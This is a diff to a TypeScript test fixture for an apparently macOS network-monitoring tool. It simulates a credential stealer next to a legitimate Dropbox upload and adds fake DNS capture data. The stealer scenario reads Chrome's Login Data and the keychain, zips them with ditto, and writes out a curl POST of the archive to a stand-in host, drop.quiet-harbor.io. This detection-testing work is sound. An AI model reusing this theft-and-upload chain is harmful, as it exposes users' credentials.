@@ -4,8 +4,11 @@
  *
  * - Stealer: an unsigned app from ~/Downloads reads Chrome's Login Data and the login keychain, runs
  *   `ditto -c -k` into /tmp (the archive lands in /private/tmp), then runs Apple's curl to POST 15 MiB
- *   over 443 to a raw IP. ditto has exited by the time ps samples; curl is still uploading.
- * - Dropbox: Dropbox.app (Developer ID, team G7HH3F8CAK) reads a document and uploads 15 MiB over 443.
+ *   over 443 to a host name the router's resolver answered. ditto has exited by the time ps samples; curl is
+ *   still uploading.
+ * - Dropbox: Dropbox.app (Developer ID, team G7HH3F8CAK) reads a document and uploads 15 MiB over 443 to
+ *   content.dropboxapi.com.
+ * - DNS: the fake tcpdump's capture holds the router's answers for both names (scutil lists the router on en0).
  *
  * Times are relative to `nowMs` (events older than events.retention would be pruned). Returns the
  * scenario directory for OUTFLOW_FAKE_SCENARIO.
@@ -14,6 +17,8 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 // Plain-JS builders shared with the fake eslogger: one definition of a realistic line.
 import { body, esLine } from '../../extension/collectors/eslogger/testing/es-lines.mjs';
+import { buildDnsMessage, RESPONSE_FLAGS, TYPE } from '../../extension/tables/process_network_flows/dns-names/testing/dns-wire.js';
+import { ethernet, ETHERTYPE, ipv4, PcapngWriter, udp } from '../../extension/tables/process_network_flows/dns-names/testing/frames.js';
 
 export const STEALER = {
   pid: 8101,
@@ -23,8 +28,9 @@ export const STEALER = {
 export const DITTO = { pid: 8103, path: '/usr/bin/ditto' };
 export const CURL = { pid: 8104, path: '/usr/bin/curl' };
 export const DROPBOX = { pid: 5100, path: '/Applications/Dropbox.app/Contents/MacOS/Dropbox' };
-export const EXFIL = { remote: '203.0.113.77', port: 443, bytesOut: 15 * 1024 * 1024, bytesIn: 4_096 };
-export const DROPBOX_UPLOAD = { remote: '162.125.1.20', port: 443, bytesOut: 15 * 1024 * 1024, bytesIn: 9_000 };
+export const EXFIL = { remote: '203.0.113.77', port: 443, bytesOut: 15 * 1024 * 1024, bytesIn: 4_096, name: 'drop.quiet-harbor.io' };
+export const DROPBOX_UPLOAD = { remote: '162.125.1.20', port: 443, bytesOut: 15 * 1024 * 1024, bytesIn: 9_000, name: 'content.dropboxapi.com' };
+const ROUTER = '10.20.30.1';
 export const LOGIN_DATA = '/Users/dana/Library/Application Support/Google/Chrome/Default/Login Data';
 export const KEYCHAIN = '/Users/dana/Library/Keychains/login.keychain-db';
 
@@ -76,6 +82,18 @@ const DROPBOX_DISPLAY = [
   '',
 ].join('\n');
 
+/** What Apple's tcpdump -i pktap,all writes for the router's two answers (en0, as mDNSResponder received them). */
+function dnsCapture(nowMs: number): Buffer {
+  const w = new PcapngWriter();
+  w.shb().idb(1, { opts: [w.option(2, 'en0')] });
+  for (const [i, f] of [EXFIL, DROPBOX_UPLOAD].entries()) {
+    const dns = buildDnsMessage({ id: 0x3c00 + i, flags: RESPONSE_FLAGS, questions: [{ name: f.name, type: TYPE.A }], answers: [{ name: f.name, type: TYPE.A, ttl: 60, data: f.remote }] });
+    const frame = ethernet(ETHERTYPE.IPV4, ipv4({ src: ROUTER, dst: '10.20.30.41', payload: udp({ srcPort: 53, dstPort: 53001 + i, payload: dns }) }));
+    w.epb(0, BigInt(nowMs - 25_000) * 1000n, frame);
+  }
+  return w.done();
+}
+
 function nettopSample(): string {
   const flow = (local: number, f: { remote: string; port: number; bytesIn: number; bytesOut: number }) =>
     `{time},tcp4 10.20.30.41:${local}<->${f.remote}:${f.port},en0,Established,${f.bytesIn},${f.bytesOut},0,0,0,24.10 ms,131072,262144,BE,-,cubic,-,-,-,-,so,`;
@@ -124,7 +142,7 @@ export function writeStealerScenario(dir: string, nowMs = Date.now()): StealerSc
       'exec',
       at(20) + 50,
       { ...curl, path: STEALER.path, platform: false, signingId: null, teamId: null, cdhash: STEALER.cdhash },
-      body.exec(curl, ['curl', '-s', '-X', 'POST', '-F', 'f=@/tmp/out.zip', `https://${EXFIL.remote}/upload`], '/Users/dana', 10),
+      body.exec(curl, ['curl', '-s', '-X', 'POST', '-F', 'f=@/tmp/out.zip', `https://${EXFIL.name}/upload`], '/Users/dana', 10),
     ),
   ];
 
@@ -158,6 +176,8 @@ export function writeStealerScenario(dir: string, nowMs = Date.now()): StealerSc
     ),
   );
   writeFileSync(path.join(dir, 'eslogger.jsonl'), `${eslogger.join('\n')}\n`);
+  writeFileSync(path.join(dir, 'tcpdump.pcapng'), dnsCapture(s));
+  writeFileSync(path.join(dir, 'scutil-dns.txt'), `DNS configuration\n\nresolver #1\n  nameserver[0] : ${ROUTER}\n  if_index : 6 (en0)\n  flags    : Request A records\n`);
   const sec = (ms: number) => Math.floor(ms / 1000);
   return {
     dir,
